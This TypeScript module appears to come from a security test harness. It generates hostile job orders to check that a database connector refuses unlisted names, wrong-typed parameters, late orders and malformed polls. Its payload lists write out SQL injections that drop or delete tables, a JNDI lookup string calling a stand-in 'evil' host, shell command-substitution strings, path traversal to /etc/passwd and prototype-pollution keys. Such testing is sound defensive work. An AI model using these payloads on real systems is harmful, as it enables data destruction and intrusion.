// Orders that a hostile service would hand out: unlisted names, values of every wrong kind, late and repeated ones.
import { randomBytes } from 'node:crypto'
import type { Laboratory } from '../../tests/harness/edge/laboratory.ts'
import type { SeededRandom } from '../../tests/harness/random/seeded-random.ts'
import { type HostileOrder, polled } from './hostile-plane.ts'
import { hostileTexts } from './hostile-sql.ts'

export type Attack = {
  group: 'unlisted names' | 'parameters' | 'writes' | 'hard work' | 'late or malformed' | 'SQL'
  order: HostileOrder
  /** A name that is not in the file: only a refusal will do. */
  isUnlisted: boolean
}

/** Harmless as a value; a call where values are pasted into the text. */
export const CALLS_BUMP = "' || bump() || '"

/** No claim has it for a title; where values are pasted into the text, all of them do. */
export const READS_ALL = "1' or '1'='1"

const INJECTIONS = [
  '1; delete from claims',
  READS_ALL,
  "'; drop table claims; --",
  '1 union select bump()',
  '0x31 or 1=1',
  "\\'; delete from claims; #",
  ') or 1=1 --',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '$(touch /tmp/task-edge-loot)',
  '`id`',
  CALLS_BUMP,
  "'/**/or/**/1=1/*",
  '"; delete from claims; --',
  '%27%20or%201=1',
  '＇ or 1=1 --',
  ':after',
  '$1',
  '?',
  '1e309',
  '-1',
  '9223372036854775808',
  'NaN',
  'Infinity',
  'null',
  '\u0000',
  '\ud800',
  '\u202e',
] as const

const WRONG: readonly unknown[] = [
  [],
  {},
  [1],
  [[1]],
  { $gt: 0 },
  { toString: 'x' },
  { valueOf: 1 },
  { length: 1, 0: 'x' },
  true,
  1.5,
  1e300,
  -0.1,
  2 ** 60,
  { value: '1; delete from claims' },
  { type: 'Buffer', data: [1] },
  [{ sql: 'delete from claims' }],
]

const NAMES = [
  'Open_Claims',
  'open_claims ',
  ' open_claims',
  'open_claims;delete from claims',
  "open_claims' or '1'='1",
  'open_claims/../close_claim',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  'valueOf',
  'get',
  'size',
  'select * from claims',
  'open_claims\u200b',
  'оpen_claims',
  'ｏpen_claims',
  'warehouse.open_claims',
  '*',
  '%',
  '.*',
  'null',
  'undefined',
  'drop_claims',
  'pg_sleep',
  'bump',
  'claims',
  'task_edge_ledger',
] as const

const job = () => `job_${randomBytes(16).toString('hex')}`
const inAnHour = () => new Date(Date.now() + 3_600_000).toISOString()

export const order = (fields: HostileOrder): HostileOrder => ({
  job: job(),
  attempt: 1,
  database: 'warehouse',
  params: {},
  expires_at: inAnHour(),
  ...fields,
})

const attack = (group: Attack['group'], fields: HostileOrder, isUnlisted = false): Attack => ({
  group,
  order: order(fields),
  isUnlisted,
})

export function makeAttacks(lab: Laboratory, random: SeededRandom): Attack[] {
  return [
    ...unlistedNames(random),
    ...parameters(random),
    ...writes(),
    ...hardWork(),
    ...lateOnes(),
    ...hostileTexts(lab).map((sql) => attack('SQL', { sql })),
  ]
}

function unlistedNames(random: SeededRandom): Attack[] {
  const made = Array.from({ length: 40 }, () => {
    const letters = Array.from({ length: random.between(1, 40) }, () =>
      String.fromCharCode(random.between(33, 126)),
    )
    return letters.join('')
  })
  const names = [...NAMES, ...made, 'x'.repeat(64)]
  return [
    ...names.map((statement) => attack('unlisted names', { statement }, true)),
    ...names.map((database) =>
      attack('unlisted names', { database, statement: 'open_claims' }, true),
    ),
    ...NAMES.map((database) => attack('unlisted names', { database, sql: 'select 1' }, true)),
  ]
}

const read = (statement: string, params: unknown): Attack =>
  attack('parameters', { statement, params })

function parameters(random: SeededRandom): Attack[] {
  const all: unknown[] = [
    ...INJECTIONS,
    ...WRONG,
    'x'.repeat(100_000),
    deep(200),
    '9'.repeat(5_000),
  ]
  const tokens = [
    `tok_${'a'.repeat(26)}`,
    `tok_${'7'.repeat(26)} tok_${'b'.repeat(26)}`,
    'tok_short',
    `tok_${'c'.repeat(60)}`,
  ]
  const close = { id: 1, version: 999, status: 'closed', note: '' }
  return [
    ...all.map((after) => read('open_claims', { after })),
    ...all.map((title) => read('by_title', { title })),
    ...all.map((id) => read('close_claim', { ...close, id })),
    ...all.map((status) => read('close_claim', { ...close, status })),
    ...tokens.map((note) => read('close_claim', { ...close, version: 1, note })),
    ...[...NAMES, 'sql', 'limit', 'max_rows', 'timeout'].map((name) =>
      read('open_claims', named(name, random.between(0, 9))),
    ),
    ...INJECTIONS.map((name) => read('open_claims', named(name, 1))),
    read('by_title', {}),
    read('by_title', { title: null }),
    read('close_claim', { id: 1 }),
  ]
}

/** Also a name that JavaScript knows something about, as a field of its own. */
const named = (name: string, value: unknown): unknown =>
  JSON.parse(`{${JSON.stringify(name)}:${JSON.stringify(value)}}`)

function deep(depth: number): unknown {
  let value: unknown = 1
  for (let n = 0; n < depth; n += 1) value = [value]
  return value
}

const closing = (version: number, id: number): HostileOrder => ({
  id,
  version,
  status: 'closed',
  note: 'x',
})

/** What is listed, and would change another number of rows, or rows that changed. */
function writes(): Attack[] {
  return [
    ...[0, 2, 3, 999].flatMap((version) =>
      [1, 2, 100_000].map((id) =>
        attack('writes', { statement: 'close_claim', params: closing(version, id) }),
      ),
    ),
    ...[0, 1, -1].map((version) =>
      attack('writes', { statement: 'close_all', params: { status: 'stolen', version } }),
    ),
    attack('writes', { statement: 'close_all', params: { status: 'stolen', version: 1_000_000 } }),
  ]
}

const hardWork = (): Attack[] =>
  ['endless', 'huge', 'open_claims'].flatMap((statement) =>
    Array.from({ length: 4 }, () => attack('hard work', { statement })),
  )

const late = (ms: number): string => new Date(Date.now() - ms).toISOString()

function lateOnes(): Attack[] {
  const valid = {
    statement: 'close_claim',
    params: { id: 3, version: 1, status: 'closed', note: 'late' },
  }
  return [
    ...[10_000, 60_000, 86_400_000, 10 ** 11].map((ms) =>
      attack('late or malformed', { ...valid, expires_at: late(ms) }),
    ),
    attack('late or malformed', { ...valid, sql: 'select 1' }),
    attack('late or malformed', { statement: 'close_claim', sql: 'delete from claims' }),
    attack('late or malformed', {}),
    attack('late or malformed', { sql: 'select id from claims', params: { a: 1 } }),
  ]
}

const jobs = (list: unknown): string => JSON.stringify({ ...polled([]), jobs: list })

/** Malformed responses to a poll: the connector must ignore them and keep polling. */
export function malformedPolls(): string[] {
  const valid = {
    statement: 'close_claim',
    params: { id: 4, version: 1, status: 'closed', note: 'x' },
  }
  return [
    '',
    '<html>',
    'null',
    '[]',
    '{}',
    jobs([order({ ...valid, job: 'job_1; delete' })]),
    jobs([order({ ...valid, job: '../../result' })]),
    jobs([order({ ...valid, params: [] })]),
    jobs([order({ ...valid, params: 'x' })]),
    jobs([order({ ...valid, statement: 7 })]),
    jobs([order({ ...valid, statement: ['close_claim'] })]),
    jobs([order({ ...valid, attempt: 0 })]),
    jobs([order({ ...valid, expires_at: 'never' })]),
    jobs([order({ ...valid, evil: true })]),
    jobs([order({ sql: 'x'.repeat(20_001) })]),
    jobs(Array.from({ length: 65 }, () => order(valid))),
    jobs({ 0: order(valid), length: 1 }),
    `{"__proto__":{"jobs":[]},"jobs":"x"}`,
  ]
}
